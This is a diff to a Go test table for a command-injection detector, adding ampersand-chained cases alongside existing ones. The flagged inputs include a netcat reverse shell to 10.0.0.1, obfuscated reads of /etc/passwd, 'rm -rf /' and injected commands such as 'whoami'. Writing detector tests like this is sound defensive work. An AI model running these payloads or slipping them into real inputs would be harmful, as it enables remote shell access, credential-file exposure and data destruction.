@@ -61,6 +61,7 @@ var detectTables = map[string]struct {
 		{`^(feat|fix)(\(.+\))?: .+$`, false}, {"^x$ | nc -e /bin/sh 10.0.0.1 4444 $", true}, {"^x$; cat /etc/passwd $", true},
 		{"/static/*", false}, {"/bin/c*t /etc/passwd", true}, {"/???/??t /etc/passwd", true}, {"; /bin/ca* x", true},
 		{`cur.execute("SELECT * FROM t WHERE id = %s", (id,))`, false}, {";{cat,/etc/passwd}", true}, {"x;{ls,-la,/}", true},
+		{"s3cr3t&More", false}, {"127.0.0.1&ls", true}, {"localhost&dir", true}, {"x;more", true}, {"x&more /etc/passwd", true}, {"127.0.0.1&whoami", true},
 		{"rm -rf node_modules didn't help", false}, {"rm -rf node_modules", true}, {"rm -rf / '", true},
 		{"ls -la /var/www/ it's", false}, {"ls -la; echo 'x", true},
 		{"grep -rn \"console.log\" src/ | wc -l gives 214. Use eslint no-console rule.", false},
